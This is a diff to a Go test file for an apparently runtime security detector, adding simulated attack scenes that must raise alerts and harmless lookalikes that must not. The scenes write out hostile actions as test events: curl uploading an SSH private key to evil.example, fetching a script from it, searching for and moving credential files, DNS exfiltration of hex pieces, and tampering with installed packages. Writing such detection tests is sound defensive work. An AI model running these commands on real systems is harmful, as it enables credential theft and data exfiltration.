@@ -56,6 +56,8 @@ var alerts = []sceneCase{
 	{"Cloud metadata contacted", "by address", func(s *scene) { s.connect(s.run(curl, "curl"), "", "169.254.169.254:80") }},
 	{"Search for credentials", "find", func(s *scene) { s.run("/usr/bin/find", "find", "/", "-name", "id_rsa") }},
 	{"Search for credentials", "grep", func(s *scene) { s.run("/usr/bin/grep", "grep", "-r", "BEGIN OPENSSH PRIVATE", "/") }},
+	{"Credential moved or linked", "the directory", func(s *scene) { s.rename(11, "/root/.aws", "/tmp/w") }},
+	{"Stored password asked for", "git", func(s *scene) { s.run(git, "git", "credential", "fill") }},
 	{"Secret sent away", "by one process", func(s *scene) {
 		p := s.run(curl, "curl", "-F", "f=@/root/.ssh/id_rsa", "https://evil.example")
 		s.read(p, "/root/.ssh/id_rsa")
@@ -92,6 +94,19 @@ var alerts = []sceneCase{
 	}},
 	{"Program without a file", "memfd", event(bodycam.Event{Type: bodycam.TypeExec, Proc: id(11), Exe: "/memfd:a (deleted)", Argv: []string{"ls"}, Marks: bodycam.MarkAnonymous | bodycam.MarkDeleted})},
 	{"Program without a file", "/dev/shm", func(s *scene) { s.run("/dev/shm/x", "x") }},
+	{"Library from an untrusted place", "preloaded", func(s *scene) {
+		p := s.run("/usr/bin/date", "date")
+		s.do(s.file(bodycam.TypeMmap, p, "/tmp/.p.so", bodycam.Read|bodycam.Exec))
+	}},
+	{"Data split over names", "ten letters a name", func(s *scene) {
+		p := s.run(python, "python3", "l.py")
+		for _, piece := range []string{"p4b3d274d6b", "p3861663230", "p6c6c6f7765", "p7230313233", "p3435363738", "p3930616263"} {
+			s.dns(p, piece+".cdn-status.example")
+		}
+	}},
+	{"Installed package changed", "appended to", func(s *scene) {
+		s.do(s.file(bodycam.TypeOpen, s.run(bash, "bash", "x.sh"), "/workspace/node_modules/left-pad/index.js", bodycam.Write|bodycam.Create|bodycam.Append))
+	}},
 	{"Downloaded program run", "a script", func(s *scene) {
 		c := s.run(curl, "curl", "-o", "/tmp/s.sh", "https://evil.example/s.sh")
 		s.connect(c, "evil.example", evil)
@@ -262,6 +277,24 @@ var alerts = []sceneCase{
 
 // innocent stories look like the ones above. No rule at all may find anything in them.
 var innocent = []sceneCase{
+	{"Stored password asked for", "git pushes", func(s *scene) {
+		p := s.run(git, "git", "push")
+		s.spawn(60, p, git, "git", "credential-store", "get")
+		s.read(60, "/root/.git-credentials")
+	}},
+	{"Library from an untrusted place", "an extension of the interpreter, and the compiler's own", func(s *scene) {
+		s.do(s.file(bodycam.TypeMmap, s.run(python, "python3"), "/tmp/venv/x.so", bodycam.Read|bodycam.Exec))
+		s.do(s.file(bodycam.TypeMmap, s.run("/usr/bin/date", "date"), "/usr/lib/libc.so", bodycam.Read|bodycam.Exec))
+	}},
+	{"Data split over names", "of a trusted domain", func(s *scene) {
+		for _, n := range []string{"images01.cdn.trusted.example", "images02.cdn.trusted.example", "images03.cdn.trusted.example", "images04.cdn.trusted.example", "images05.cdn.trusted.example", "images06.cdn.trusted.example"} {
+			s.dns(s.run(curl, "curl"), n)
+		}
+	}},
+	{"Installed package changed", "npm, and a file of the project", func(s *scene) {
+		s.write(11, "/workspace/src/index.js")
+		s.do(s.file(bodycam.TypeOpen, s.run(bash, "bash", "x.sh"), "/workspace/node_modules/.cache/a.js", bodycam.Write|bodycam.Create|bodycam.Trunc))
+	}},
 	{"Credential read", "its own example", func(s *scene) { s.read(s.run(cat, "cat", ".env.example"), "/workspace/.env.example") }},
 	{"Credential read", "its own .env", func(s *scene) { s.read(s.run(python, "python3", "app.py"), "/workspace/.env") }},
 	{"Credential read", "a public key", func(s *scene) { s.read(s.run(cat, "cat"), "/root/.ssh/id_rsa.pub") }},
